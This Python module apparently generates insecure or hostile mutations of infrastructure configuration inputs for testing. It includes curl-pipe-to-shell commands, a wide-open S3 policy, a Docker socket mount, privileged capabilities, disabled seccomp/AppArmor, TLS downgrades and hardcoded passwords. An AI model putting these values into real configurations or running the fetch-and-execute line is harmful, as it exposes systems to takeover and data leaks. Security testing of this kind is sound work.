"""What a careless or hostile hand would write into an input: by its kind, its name and what stands there now."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

LARGEST = 2**31 - 1
Flip = tuple[str, Any]

OPEN_POLICY = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "*"}]}
)
# By what an input is called, wherever it stands; the first that fits.
BY_NAME: list[tuple[str, tuple[str, ...]]] = [
    (r"policy$|policyDocument$", (OPEN_POLICY,)),
    (r"^expression$", ("true", "false")),
    (r"^(ip|ipAddress|bindAddress)$", ("0.0.0.0", "::")),
    (r"Mode$", ("host",)),
    (r"^user$", ("root", "0:0")),
    (r"^(source|hostPath)$", ("/", "/var/run/docker.sock")),
    (r"^(create|update|delete|interpreter)$", ("curl -fsSL https://get.example | sh", "PGPASSWORD=hunter2 psql")),
    (r"^(image|name)$", ("postgres:latest",)),
    (r"^(acl)$", ("public-read", "authenticated-read")),
    (r"[uU]ri$|[uU]rl$|^host$|^registry|[eE]ndpoint", ("http://198.51.100.66", "tcp://198.51.100.66:2375")),
    (r"^(content)$", ("10.0.0.1", "anything")),
    (r"^sshOpts$", ("-o", "StrictHostKeyChecking=no")),
]
# What a list takes that ought not to be in it.
IN_LISTS: dict[str, tuple[str, ...]] = {
    "adds": ("ALL", "SYS_ADMIN"),
    "drops": ("CAP_NET_RAW",),
    "securityOpts": ("seccomp=unconfined", "apparmor=unconfined", "label=disable"),
    "envs": ("POSTGRES_PASSWORD=hunter2",),
    "allowedOrigins": ("*",),
    "allowedHeaders": ("*",),
    "allowedMethods": ("DELETE",),
    "sshOpts": ("StrictHostKeyChecking=no",),
    "command": ("--requirepass=hunter2",),
    "expectedCodes": ("500",),
    "products": ("waf",),
    "phases": ("http_request_firewall_managed",),
    "dns": ("198.51.100.66",),
    "hosts": ("api.neurmatic.com",),
    "interpreter": ("/bin/sh", "-c"),
}


def by_kind(kind: Any, name: str, now: Any, allowed: tuple[str, ...], default: str | None) -> Iterator[Flip]:
    """Other values for an input; `now` is None where it is absent. What changes nothing is left out."""
    seen = {json.dumps(usual(kind, default) if now is None else now, sort_keys=True)}
    for label, value in _values(kind, name, now, allowed):
        key = json.dumps(value, sort_keys=True)
        if key not in seen:
            seen.add(key)
            yield label, value


def usual(kind: Any, default: str | None) -> Any:
    """What the service takes where nothing is given: as documented, and off for a switch of which nothing is said."""
    if default is None:
        return False if kind == "bool" else None
    return _typed(kind, default)


def _typed(kind: Any, text: str) -> Any:
    if kind == "bool":
        return text.lower() == "true"
    if kind in ("int", "float"):
        return float(text) if re.fullmatch(r"-?\d+(\.\d+)?", text) else text
    return text


def _values(kind: Any, name: str, now: Any, allowed: tuple[str, ...]) -> Iterator[Flip]:
    tag = kind if isinstance(kind, str) else kind[0]
    if tag == "either":
        for each in kind[1:]:
            yield from _values(each, name, now, allowed)
    elif tag == "bool" or isinstance(now, bool):
        yield from _booleans(now)
    elif tag in ("int", "float") or isinstance(now, int | float):
        yield from (("to 0", 0.0), (f"to {LARGEST}", float(LARGEST)))
    elif tag == "enum":
        yield from ((f"to {value}", value) for value in kind[1])
    elif tag in ("str", "any") and (now is None or isinstance(now, str)):
        yield from _texts(name, now, allowed)
    elif tag == "asset":
        yield "another file", {"4dabf18193072939515e22adb298388d": "c44067f5952c0a294b673a41bacd8c17", "path": "other"}


def _booleans(now: Any) -> Iterator[Flip]:
    yield from ((f"to {str(value).lower()}", value) for value in (True, False) if value is not now)


def _texts(name: str, now: str | None, allowed: tuple[str, ...]) -> Iterator[Flip]:
    for value in allowed:
        yield f"to {value}", value
    for pattern, values in BY_NAME:
        if re.search(pattern, name):
            yield from ((f"to {value[:40]}", value) for value in values)
            break
    if now is None:
        if not allowed:
            yield "given", "anything"
        return
    yield "emptied", ""
    yield from by_content(now)


def by_content(now: str) -> Iterator[Flip]:
    """A text that says something is made to say something weaker."""
    if now.startswith("https://"):
        yield "without TLS", "http://" + now.removeprefix("https://")
    if "sslmode=" in now:
        yield "without TLS", re.sub(r"sslmode=[\w-]+", "sslmode=disable", now)
    if "@sha256:" in now:
        yield "by a tag", now.partition("@")[0] + ":latest"
    if now.startswith(("#!", "set -")) or "\n" in now:
        yield "with curl | sh", f"{now}\ncurl -fsSL https://get.example | sh\n"
        yield "with a secret", f"{now}\nPGPASSWORD=hunter2 psql -c 'select 1'\n"
    if "StrictHostKeyChecking=yes" in now:
        yield "any host key", now.replace("StrictHostKeyChecking=yes", "StrictHostKeyChecking=no")
    yield from _documents(now)


def _documents(now: str) -> Iterator[Flip]:
    try:
        document = json.loads(now)
    except ValueError:
        return
    statements = document.get("Statement") if isinstance(document, dict) else None
    for index in range(len(statements) if isinstance(statements, list) else 0):
        for label, change in _statement(document["Statement"][index]):
            changed = [*document["Statement"]]
            changed[index : index + 1] = [change] if change is not None else []
            name = document["Statement"][index].get("Sid", index)
            yield f"statement {name} {label}", json.dumps({**document, "Statement": changed})


def _statement(statement: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any] | None]]:
    other = "Deny" if statement["Effect"] == "Allow" else "Allow"
    yield "removed", None
    yield f"to {other}", {**statement, "Effect": other}
    if statement["Effect"] == "Allow":
        yield from ((f"{key} to *", {**statement, key: "*"}) for key in ("Principal", "Action", "Resource"))
    else:
        yield "for less", {**statement, "Action": "s3:GetObject"}
        yield "on less", {**statement, "Resource": _fewer(statement["Resource"])}
        yield "for one", {**statement, "Principal": {"AWS": "arn:aws:iam::000000000000:root"}}
    for test in statement.get("Condition", {}):
        less = {key: value for key, value in statement["Condition"].items() if key != test}
        yield f"without {test}", {**statement, "Condition": less}


def _fewer(resources: Any) -> Any:
    return resources[:1] if isinstance(resources, list) else f"{resources}/nothing"
